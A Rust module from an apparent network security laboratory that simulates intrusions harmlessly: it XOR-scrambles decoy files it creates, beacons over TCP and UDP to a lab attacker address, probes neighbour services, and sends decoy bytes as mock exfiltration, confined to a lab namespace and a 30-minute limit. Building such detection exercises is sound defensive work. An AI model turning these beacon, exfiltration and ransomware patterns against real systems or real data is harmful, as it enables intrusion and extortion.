//! Harmless incidents: what an intrusion looks like from outside, without anything that could harm.
//!
//! Each runs inside one machine of the laboratory, talks to addresses of the laboratory alone, touches only
//! decoy files that it made itself, and ends by itself. Deliberately absent: anything that would be of use
//! outside (no key is kept back, no credential is tried, nothing spreads).

use std::fs;
use std::io::Write as _;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use clap::ValueEnum;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};
use tokio::time::{Instant, interval, sleep, timeout};

use crate::service::now_ms;
use crate::topology::{ATTACKER, SERVICE_PORT};

/// Which incident.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum IncidentKind {
    /// Scrambles decoy files it made, then acts like a beacon and tries its neighbours.
    Ransomware,
    /// Keeps a connection to the attacker, and sends it a datagram every second.
    Beacon,
    /// Connects to the services of its neighbours.
    Lateral,
    /// Sends decoy bytes to the attacker.
    Exfil,
}

/// What an incident does, for the process that does it.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct IncidentOptions {
    /// Which one.
    pub kind: IncidentKind,
    /// A folder of its own: decoys go there.
    pub folder: PathBuf,
    /// Where it writes what it does.
    pub log: PathBuf,
    /// The machines that it tries.
    pub neighbours: Vec<SocketAddr>,
}

/// One thing that an incident did, and what came of it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Act {
    /// Milliseconds since 1970.
    pub at_ms: u64,
    /// `connected`, `answered`, `silent`, `lost`, `sent`, `scrambled`, `refused` or `ended`.
    pub what: String,
    /// To which address or file, or why.
    pub detail: String,
}

/// Every incident ends by itself after this.
const LASTS: Duration = Duration::from_secs(30 * 60);
/// How often a beacon speaks.
const BEAT: Duration = Duration::from_secs(1);
/// How long a beacon waits for an answer before it calls the attacker silent.
const PATIENCE: Duration = Duration::from_millis(900);
/// Decoy files, and bytes in each.
const DECOYS: (u16, usize) = (40, 4096);
/// What `exfil` sends.
const EXFIL_BYTES: usize = 8 * 1024 * 1024;
/// Where incidents connect to.
const COMMAND_PORT: u16 = 443;

/// Runs one incident to its end.
///
/// # Errors
/// Its log or its decoys cannot be written, or it is not inside a laboratory.
pub async fn run(options: IncidentOptions, machine_network: u64) -> Result<()> {
    ensure!(
        crate::namespace::network_namespace()? == machine_network,
        "an incident only runs in the network namespace of a machine of the laboratory"
    );
    let log = Log { path: options.log.clone() };
    let incident = async {
        match options.kind {
            IncidentKind::Beacon => beacon(&log).await,
            IncidentKind::Lateral => lateral(&options.neighbours, &log).await,
            IncidentKind::Exfil => exfil(&log).await,
            IncidentKind::Ransomware => {
                scramble_decoys(&options.folder, &log)?;
                lateral(&options.neighbours, &log).await?;
                beacon(&log).await
            }
        }
    };
    match timeout(LASTS, incident).await {
        Ok(result) => result?,
        Err(_) => log.write("ended", "its half hour is over")?,
    }
    Ok(())
}

struct Log {
    path: PathBuf,
}

impl Log {
    fn write(&self, what: &str, detail: impl ToString) -> Result<()> {
        let act = Act { at_ms: now_ms(), what: what.into(), detail: detail.to_string() };
        let mut line = serde_json::to_vec(&act)?;
        line.push(b'\n');
        let file = fs::OpenOptions::new().append(true).create(true).open(&self.path);
        let written = file.and_then(|mut file| file.write_all(&line));
        written.with_context(|| format!("writing {}", self.path.display()))
    }
}

fn attacker(port: u16) -> SocketAddr {
    SocketAddr::new(ATTACKER.0.into(), port)
}

/// A connection that speaks every second, and datagrams beside it, for as long as the incident lasts.
async fn beacon(log: &Log) -> Result<()> {
    tokio::try_join!(beacon_tcp(log), beacon_udp(log)).map(|_| ())
}

async fn beacon_tcp(log: &Log) -> Result<()> {
    let to = attacker(COMMAND_PORT);
    loop {
        let stream = match timeout(PATIENCE, TcpStream::connect(to)).await {
            Ok(Ok(stream)) => stream,
            Ok(Err(error)) => {
                log.write("refused", format!("{to}/tcp: {error}"))?;
                sleep(BEAT).await;
                continue;
            }
            Err(_) => {
                log.write("silent", format!("{to}/tcp"))?;
                continue;
            }
        };
        log.write("connected", format!("{to}/tcp from {}", stream.local_addr()?))?;
        let why = talk(stream, log).await?;
        log.write("lost", format!("{to}/tcp: {why}"))?;
        sleep(BEAT).await;
    }
}

/// Speaks on `stream` until it breaks, and returns why it did.
async fn talk(mut stream: TcpStream, log: &Log) -> Result<String> {
    let mut beat = interval(BEAT);
    let mut silent = false;
    let mut back = [0; 1024];
    loop {
        beat.tick().await;
        if let Err(error) = stream.write_all(b"decoy beacon\n").await {
            return Ok(error.to_string());
        }
        match timeout(PATIENCE, stream.read(&mut back)).await {
            Ok(Ok(0)) => return Ok("closed by the other side".into()),
            Ok(Ok(_)) => silent = false,
            Ok(Err(error)) => return Ok(error.to_string()),
            Err(_) if silent => {}
            Err(_) => {
                silent = true;
                log.write("silent", "the established connection gets no answer any more")?;
            }
        }
    }
}

async fn beacon_udp(log: &Log) -> Result<()> {
    let to = attacker(COMMAND_PORT);
    let socket = UdpSocket::bind("0.0.0.0:0").await.context("opening a UDP socket")?;
    let mut beat = interval(BEAT);
    let mut before = None;
    let mut back = [0; 64];
    loop {
        beat.tick().await;
        let now = match socket.send_to(b"decoy beacon", to).await {
            Err(error) => format!("refused: {error}"),
            Ok(_) => match timeout(PATIENCE, socket.recv_from(&mut back)).await {
                Ok(Ok(_)) => "answered".into(),
                Ok(Err(_)) | Err(_) => "silent".into(),
            },
        };
        if before.as_ref() != Some(&now) {
            log.write(now.split(':').next().unwrap_or_default(), format!("{to}/udp {now}"))?;
            before = Some(now);
        }
    }
}

/// One round over the services of the neighbours.
async fn lateral(neighbours: &[SocketAddr], log: &Log) -> Result<()> {
    for neighbour in neighbours.iter().filter(|n| n.port() == SERVICE_PORT) {
        let tried = timeout(PATIENCE, async {
            let mut stream = TcpStream::connect(neighbour).await?;
            stream.write_all(b"decoy visit\n").await?;
            stream.read(&mut [0; 64]).await
        });
        match tried.await {
            Ok(Ok(_)) => log.write("answered", format!("{neighbour}/tcp"))?,
            Ok(Err(error)) => log.write("refused", format!("{neighbour}/tcp: {error}"))?,
            Err(_) => log.write("silent", format!("{neighbour}/tcp"))?,
        }
    }
    log.write("ended", format!("{} neighbours tried", neighbours.len()))
}

/// Sends decoy bytes, and says how many were taken.
async fn exfil(log: &Log) -> Result<()> {
    let to = attacker(COMMAND_PORT);
    let started = Instant::now();
    let mut sent = 0;
    let transfer = async {
        let stream = TcpStream::connect(to).await?;
        log.write("connected", format!("{to}/tcp")).map_err(std::io::Error::other)?;
        let (mut reader, mut writer) = stream.into_split();
        let drain =
            tokio::task::spawn_local(
                async move { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await },
            );
        let block = vec![b'D'; 16 * 1024];
        while sent < EXFIL_BYTES {
            writer.write_all(&block).await?;
            sent += block.len();
            // Slowly enough to be seen, and to be cut in the middle: 8 MiB take about ten seconds.
            sleep(Duration::from_millis(20)).await;
        }
        writer.shutdown().await?;
        drop(writer);
        drain.await.map_err(std::io::Error::other)?
    };
    let ended = transfer.await;
    let took = started.elapsed().as_secs();
    match ended {
        Ok(back) => log.write("sent", format!("{sent} decoy bytes to {to} in {took} s, {back} came back")),
        Err(error) => log.write("lost", format!("{to}/tcp after {sent} decoy bytes in {took} s: {error}")),
    }
}

/// Makes decoy files, and scrambles those: each byte is exclusive-ored with a constant, so that running the
/// same over a file brings it back.
fn scramble_decoys(folder: &Path, log: &Log) -> Result<()> {
    fs::create_dir_all(folder).with_context(|| format!("creating {}", folder.display()))?;
    let (files, bytes) = DECOYS;
    for number in 1..=files {
        let decoy = folder.join(format!("decoy-{number:02}.txt"));
        let text = format!("This is a decoy, made by the laboratory, file {number}.\n");
        let content: Vec<u8> = text.bytes().cycle().take(bytes).collect();
        fs::write(&decoy, &content).with_context(|| format!("writing {}", decoy.display()))?;
        let scrambled: Vec<u8> = content.iter().map(|byte| byte ^ SCRAMBLE).collect();
        let locked = folder.join(format!("decoy-{number:02}.txt.locked"));
        fs::write(&locked, scrambled).with_context(|| format!("writing {}", locked.display()))?;
        fs::remove_file(&decoy).with_context(|| format!("removing {}", decoy.display()))?;
        log.write("scrambled", locked.display())?;
    }
    let note = folder.join("READ-ME-decoy.txt");
    let text =
        "Exercise of the Digue laboratory. Nothing was encrypted but decoys: XOR every byte with 0x5a.\n";
    fs::write(&note, text).with_context(|| format!("writing {}", note.display()))
}

/// What decoys are exclusive-ored with.
const SCRAMBLE: u8 = 0x5a;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_decoys_in_the_own_folder_are_scrambled_and_they_can_be_brought_back() {
        let dir = tempfile::tempdir().expect("folder");
        let other = dir.path().join("precious.txt");
        fs::write(&other, "untouched").expect("file");
        let folder = dir.path().join("decoys");
        scramble_decoys(&folder, &Log { path: dir.path().join("log") }).expect("scrambled");
        assert_eq!(fs::read_to_string(&other).expect("file"), "untouched");
        let locked = fs::read(folder.join("decoy-07.txt.locked")).expect("decoy");
        let back: Vec<u8> = locked.iter().map(|byte| byte ^ SCRAMBLE).collect();
        assert!(back.starts_with(b"This is a decoy"));
        assert!(!folder.join("decoy-07.txt").exists());
    }
}
